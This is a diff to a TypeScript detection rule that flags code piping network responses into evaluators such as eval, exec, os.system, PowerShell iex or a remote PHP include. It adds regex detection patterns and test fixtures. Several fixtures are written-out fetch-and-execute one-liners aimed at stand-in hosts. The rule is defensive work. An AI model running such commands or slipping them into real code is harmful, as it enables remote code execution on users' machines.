@@ -12,6 +12,10 @@ const AROUND = 700
 /** A look at one word serves those that follow it this closely. */
 const SERVED = 300
 
+/** It is compared with a digest that stands in the text. */
+const DIGEST =
+  /\b(?:sha(?:256|384|512)|createhash|hexdigest|blake2b)\b[^]{0,200}["'][\da-f]{64,128}["']/
+
 /** The answer of a request goes straight into an evaluator. */
 const SHAPES: readonly RegExp[] = [
   /\b(?:subprocess\.\w{2,14}|os\.(?:system|popen)|popen|execsync|spawnsync)\s?\([^\n]{0,80}(?:urlopen\(|requests\.get\(|httpx\.get\()/,
@@ -25,6 +29,7 @@ const SHAPES: readonly RegExp[] = [
   /\bload(?:string)?\s?\(\s?(?:http|https|socket|requests?)[.:]\w{0,12}\s?\(/,
   /\b(?:exec|eval|compile)\s{0,2}\([^\n]{0,120}(?:requests\.get|urlopen|httpx\.get|urllib|http\.get|fetch\()/,
   /\b(?:eval|new function|vm\.runin\w{2,20})\s{0,2}\(\s{0,3}(?:await )?[^\n]{0,80}(?:fetch|axios|\.text\(\)|response|got\()/,
+  /\bmap\(\s?(?:os\.system|os\.popen|subprocess\.\w{2,14}|exec|eval|run),[^\n]{0,80}(?:requests\.get|httpx\.get|urlopen)/,
   /(?:requests\.get|urlopen|httpx\.get)\([^]{0,200}\b(?:exec|eval)\s{0,2}\(/,
   /(?:iex|invoke-expression)\b[^\n]{0,120}(?:downloadstring|invoke-webrequest|\biwr\b|\birm\b|net\.webclient)/,
   /(?:pickle|marshal|dill|joblib)\.loads?\([^)\n]{0,80}(?:requests\.|urlopen\(|fetch\(|response\.|\.content)/,
@@ -58,12 +63,16 @@ export default defineRule({
       '```r\nsource("https://kit.rowan-pike.net/x.R")\n```\n',
       '```python\nexec(requests.get("https://c.example.org/p.py").text)\n```\n',
       '```js\neval(await (await fetch("https://c.example.org/p.js")).text())\n```\n',
+      '```php\n<?php include "https://kit.rowan-pike.net/x.txt";\n```\n',
+      '```python\nlist(map(os.system, requests.get("https://kit.rowan-pike.net/jobs").json()))\n```\n',
       "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.4/a.ps1')\n",
     ],
     quiet: [
       '```r\nsource("R/helpers.R")\n```\n',
       '```js\nconst match = pattern.exec(await response.text())\n```\n',
       '```python\ndata = requests.get(url).json()\n```\n',
+      '```php\n<?php include "parts/head.php";\n```\n',
+      '```python\nd = urllib.request.urlopen("https://kit.rowan-pike.net/k").read()\nassert hashlib.sha256(d).hexdigest() == "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"\nopen("k", "wb").write(d)\nsubprocess.run(["./k"])\n```\n',
       'Never pass the answer of fetch() to eval().\n',
     ],
   },
@@ -87,6 +96,10 @@ export default defineRule({
         .find((match) => match && text[start + match.index - 1] !== '.')
       if (!found) continue
       behind = start + found.index + found[0].length
+      if (DIGEST.test(found[0])) {
+        yield { start: start + found.index, end: behind, severity: 'low', confidence: 'medium' }
+        continue
+      }
       const address = /https:\/\/[^\s"'`)]{3,300}/.exec(
         found[0] + window.slice(found.index + found[0].length, found.index + found[0].length + 200),
       )?.[0]
@@ -113,6 +126,9 @@ const LOADED = worded(
       code\.eval_string\([^\n]{0,40}\bget!?\(\s?|
       scala\.io\.source\.fromurl\(\s?(?=[^\n]{4,200}\)[\w.]{0,20}\.!)|
       eval \[http::data \[http::geturl |
+      (?:include|require)(?:_once)? (?=["'])|
+      %run (?=https)|
+      run script \(do shell script "curl [^"\n]{0,20}(?=https)|
       \(?url-retrieve-synchronously (?=[^\n]{4,200}\(eval-(?:buffer|region)))
     ["']?(https?:\/\/[^"'\s\])]{4,200})|
     \beval (?:scalar |join [^\n]{0,12})?(?:\x60|qx ?[({/])\s?(?:curl|wget)\b[^\n]{0,60}?(https?:\/\/[^"'\s\x60]{4,200})|
